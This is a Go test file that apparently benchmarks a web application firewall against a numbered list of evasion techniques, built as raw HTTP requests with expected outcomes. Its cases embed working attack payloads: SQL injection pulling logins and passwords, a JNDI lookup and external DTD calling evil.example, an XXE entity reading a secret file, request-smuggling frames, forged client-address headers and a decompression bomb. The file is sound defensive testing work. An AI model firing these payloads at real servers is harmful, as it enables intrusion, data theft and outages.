package bench

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"net/http"
	"slices"
	"strings"
)

// A gateCase is one request of waf.md's list of holes, as bytes, and what must become of it.
type gateCase struct {
	number string // "B1"; several cases share one
	name   string
	bytes  func(host string) string
	wanted func(gateOutcome) bool
	repeat int // how often it is sent; 0 is once. Every time must end as wanted
}

// The attack of every case: anybody's rules stop it where they see it.
const (
	sqlInjection = "1' UNION SELECT login,password FROM users-- -"
	sqlEscaped   = "1%27%20UNION%20SELECT%20login,password%20FROM%20users--%20-"
)

// get, post and chunked write a request as a browser would, with fields of the case's own.
func get(target string, fields ...string) func(string) string {
	return func(host string) string {
		return "GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\n" + plainBrowser + lines(fields) + "\r\n"
	}
}

func post(contentType, body string, fields ...string) func(string) string {
	fields = append([]string{"Content-Type: " + contentType, fmt.Sprintf("Content-Length: %d", len(body))}, fields...)
	return func(host string) string {
		return "POST /form HTTP/1.1\r\nHost: " + host + "\r\n" + plainBrowser + lines(fields) + "\r\n" + body
	}
}

func chunked(body string, fields ...string) func(string) string {
	return func(host string) string {
		return "POST /form HTTP/1.1\r\nHost: " + host + "\r\n" + plainBrowser + "Transfer-Encoding: chunked\r\nContent-Type: application/x-www-form-urlencoded\r\n" + lines(fields) + "\r\n" + body
	}
}

const plainBrowser = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) sekisho-bench\r\nAccept: text/html,*/*;q=0.8\r\n"

func lines(fields []string) string {
	var b strings.Builder
	for _, field := range fields {
		b.WriteString(field + "\r\n")
	}
	return b.String()
}

// What may become of a case.

// stopped: answered with one of the statuses, and no origin has seen it.
func stopped(statuses ...int) func(gateOutcome) bool {
	return func(o gateOutcome) bool {
		return len(o.seen) == 0 && len(o.answers) == 1 && slices.Contains(statuses, o.answers[0])
	}
}

// cutOff: stopped, and the connection ends behind it.
func cutOff(statuses ...int) func(gateOutcome) bool {
	return func(o gateOutcome) bool { return stopped(statuses...)(o) && !o.goesOn }
}

// passed: answered 200, and the origin has seen one request that is as it should be.
func passed(is func(seenRequest) bool) func(gateOutcome) bool {
	return func(o gateOutcome) bool {
		return len(o.seen) == 1 && slices.Equal(o.answers, []int{http.StatusOK}) && is(o.seen[0])
	}
}

func anything(seenRequest) bool { return true }

func without(names ...string) func(seenRequest) bool {
	return func(r seenRequest) bool {
		for _, name := range names {
			if r.Header[http.CanonicalHeaderKey(name)] != nil {
				return false
			}
		}
		return true
	}
}

func zipped(text string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(text)) // into memory
	_ = w.Close()
	return b.String()
}

func form(disposition, content string) string {
	return "--b\r\nContent-Disposition: form-data; " + disposition + "\r\n\r\n" + content + "\r\n--b--\r\n"
}

const multipartType = "multipart/form-data; boundary=b"

// gateCases is the list, in its order.
func gateCases() []gateCase {
	junk := strings.Repeat("a=1&", 1000)
	var cases []gateCase
	add := func(number, name string, bytes func(string) string, wanted func(gateOutcome) bool) {
		cases = append(cases, gateCase{number: number, name: name, bytes: bytes, wanted: wanted})
	}

	add("B1", "an attack behind 1,000 arguments of the query", get("/?"+junk+"q="+sqlEscaped), stopped(400, 403, 431))
	add("B1", "an attack behind 1,000 arguments of a form", post("application/x-www-form-urlencoded", junk+"q="+sqlEscaped), stopped(400, 403))
	add("B1", "an attack behind 1,000 members of a JSON object", post("application/json", jsonJunk()), stopped(400, 403))

	add("B2", "a trailer that an application would read", chunked("3\r\na=b\r\n0\r\nX-Sum: 1\r\n\r\n", "Trailer: X-Sum"),
		passed(func(r seenRequest) bool { return len(r.Trailer) == 0 && r.Header["X-Sum"] == nil && r.Body == "a=b" }))
	add("B2", "an attack in a trailer", chunked("3\r\na=b\r\n0\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n"), stopped(403))
	add("B2", "a trailer that says how to read the body", chunked("3\r\na=b\r\n0\r\nContent-Type: text/plain\r\n\r\n"), cutOff(400))

	add("B3", "SQL injection in an attribute of XML", post("text/xml", `<q id="`+sqlInjection+`"/>`), stopped(403))

	const entity = "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY e SYSTEM \"file:///srv/secret.txt\">]><q>&e;</q>"
	add("B4", "an external entity in XML", post("text/xml", entity), stopped(400, 403))
	add("B4", "a document type without entities", post("application/xml", "<!DOCTYPE q SYSTEM \"http://evil.example/q.dtd\"><q/>"), stopped(400, 403))

	add("B5", "XML whose tags do not match", post("text/xml", "<q><a>1</q>"), stopped(400))
	add("B5", "XML behind which an attack stands", post("text/xml", "<q/>"+sqlInjection), stopped(400, 403))

	add("B6", "a field that is a file for one reader only", post(multipartType, form(`name="q"; filename*=utf-8''x.txt`, sqlInjection)), stopped(400, 403))

	add("B7", "an attack before the first part of a form", post(multipartType, "q="+sqlEscaped+"\r\n"+form(`name="a"`, "1")), stopped(400, 403))
	add("B7", "an attack behind the last part of a form", post(multipartType, form(`name="a"`, "1")+form(`name="q"`, sqlInjection)), stopped(400, 403))

	add("B8", "a body whose chunks break off", chunked("3\r\na=b\r\nzz\r\n"), cutOff(400))

	large := "q=" + strings.Repeat("abcdefgh", 25<<10)
	add("B9", "a body of 200 KB without a temporary folder", post("application/x-www-form-urlencoded", large),
		passed(func(r seenRequest) bool { return r.Body == large }))

	add("B10", "a visitor of IPv6 whom a rule names", get("/", "X-Gate: address"), stopped(gateRuleStatus))

	add("B11", "addresses and paths that the visitor claims", get("/", "X-Real-IP: 192.0.2.1", "True-Client-IP: 192.0.2.1", "X_Forwarded_For: 192.0.2.1", "X-Original-URL: /admin"),
		passed(without("X-Real-IP", "True-Client-IP", "X_Forwarded_For", "X-Original-URL")))
	add("B11", "a chain of addresses that the visitor claims", get("/", "X-Forwarded-For: 192.0.2.1"),
		passed(func(r seenRequest) bool {
			return !strings.Contains(strings.Join(r.Header["X-Forwarded-For"], ","), "192.0.2.1")
		}))
	add("B11", "a visitor who strikes out what others rely on", get("/", "Connection: X-Forwarded-For, X-Forwarded-Proto, Authorization", "Authorization: Basic eDp5"),
		passed(func(r seenRequest) bool {
			return r.Header["X-Forwarded-For"] != nil && r.Header["X-Forwarded-Proto"] != nil && r.Header["Authorization"] != nil
		}))

	cases = append(cases, framingCases()...)

	add("B13", "an upgrade to a protocol nobody knows", get("/", "Upgrade: foo", "Connection: Upgrade"), passed(without("Upgrade")))
	add("B13", "an upgrade to HTTP/2", get("/", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__", "Connection: Upgrade, HTTP2-Settings"), passed(without("Upgrade", "HTTP2-Settings")))

	const odd = "/?a=1;b=2&c=%zz&d=4+5&e=%2B"
	add("B14", "a query that net/url cannot read", get(odd), passed(func(r seenRequest) bool { return r.Target == odd }))

	spelled := func(spelling func(string) string) func(string) string {
		return func(host string) string { return get("/")(spelling(host)) }
	}
	canonical := func(r seenRequest) bool {
		return r.Host == strings.ToLower(strings.TrimSuffix(r.Host, ".")) && r.Host != ""
	}
	add("B15", "a host in capitals", spelled(strings.ToUpper), passed(canonical))
	add("B15", "a host with a dot behind it", spelled(func(host string) string { return host + "." }), passed(canonical))
	add("B15", "an absolute target", func(host string) string { return get("http://" + host + "/x?y")(host) },
		passed(func(r seenRequest) bool { return r.Target == "/x?y" }))
	add("B15", "an absolute target of another host", get("http://other.example/x"), cutOff(400))

	add("B16", "plain text", post("text/plain", "hello"), passed(func(r seenRequest) bool { return r.Body == "hello" }))
	add("B16", "bytes of no type", post("application/octet-stream", "\x00\x01\x02\xff"), passed(anything))
	add("B16", "a form that is compressed", post("application/x-www-form-urlencoded", zipped("a=b"), "Content-Encoding: gzip"),
		passed(func(r seenRequest) bool { return r.Body == zipped("a=b") }))
	add("B16", "an attack that is compressed", post("application/x-www-form-urlencoded", zipped("q="+sqlEscaped), "Content-Encoding: gzip"), stopped(400, 403))
	add("B16", "a compressed form that swells a thousandfold", post("application/x-www-form-urlencoded", zipped("a="+strings.Repeat("b", 64<<20)), "Content-Encoding: gzip"), stopped(400, 403, 413))
	add("B16", "a form that is compressed twice", post("application/x-www-form-urlencoded", zipped(zipped("q="+sqlEscaped)), "Content-Encoding: gzip, gzip"), stopped(400, 403, 415))
	add("B16", "a form in a coding that nobody reads", post("application/x-www-form-urlencoded", "q="+sqlEscaped, "Content-Encoding: x-odd"), stopped(400, 403, 415))

	const twins = "a=union+select&a=ok&a=ok2&b=1&c=2"
	cases = append(cases, gateCase{number: "B17", name: "an attack among arguments of one name, each time", bytes: post("application/x-www-form-urlencoded", twins), wanted: stopped(403), repeat: 200})
	return cases
}

// framingCases are those of B12, and what else frames a request.
func framingCases() []gateCase {
	head := func(line, rest string) func(string) string {
		return func(host string) string { return line + "\r\nHost: " + host + "\r\n" + plainBrowser + rest }
	}
	smuggled := "GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
	return []gateCase{
		{number: "B12", name: "a length beside chunks", wanted: cutOff(400), bytes: head("POST / HTTP/1.1", "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+smuggled)},
		{number: "B12", name: "two lengths that are equal", wanted: cutOff(400), bytes: head("POST / HTTP/1.1", "Content-Length: 2\r\nContent-Length: 2\r\n\r\nab")},
		{number: "B12", name: "chunks in HTTP/1.0", wanted: cutOff(400), bytes: head("POST / HTTP/1.0", "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n")},
		{number: "B12", name: "lines that end in a bare line feed", wanted: cutOff(400), bytes: func(host string) string { return "GET / HTTP/1.1\nHost: " + host + "\n\n" }},
		{number: "B12", name: "a field that is folded", wanted: cutOff(400), bytes: head("GET / HTTP/1.1", "X: a\r\n b\r\n\r\n")},
		{number: "B12", name: "a space before the colon", wanted: cutOff(400), bytes: head("POST / HTTP/1.1", "Content-Length : 2\r\n\r\nab")},
		{number: "B12", name: "a coding that nobody knows", wanted: cutOff(400, 501), bytes: head("POST / HTTP/1.1", "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n")},
		{number: "B12", name: "a chunk that ends in a bare line feed", wanted: cutOff(400), bytes: head("POST / HTTP/1.1", "Transfer-Encoding: chunked\r\n\r\n1\r\na\n0\r\n\r\n")},
		{number: "B12", name: "a fragment in the target", wanted: cutOff(400), bytes: head("GET /a#b HTTP/1.1", "\r\n")},
	}
}

func jsonJunk() string {
	var b strings.Builder
	b.WriteString("{")
	for i := range 1000 {
		fmt.Fprintf(&b, `"a%d":1,`, i)
	}
	return b.String() + `"q":"` + sqlInjection + `"}`
}
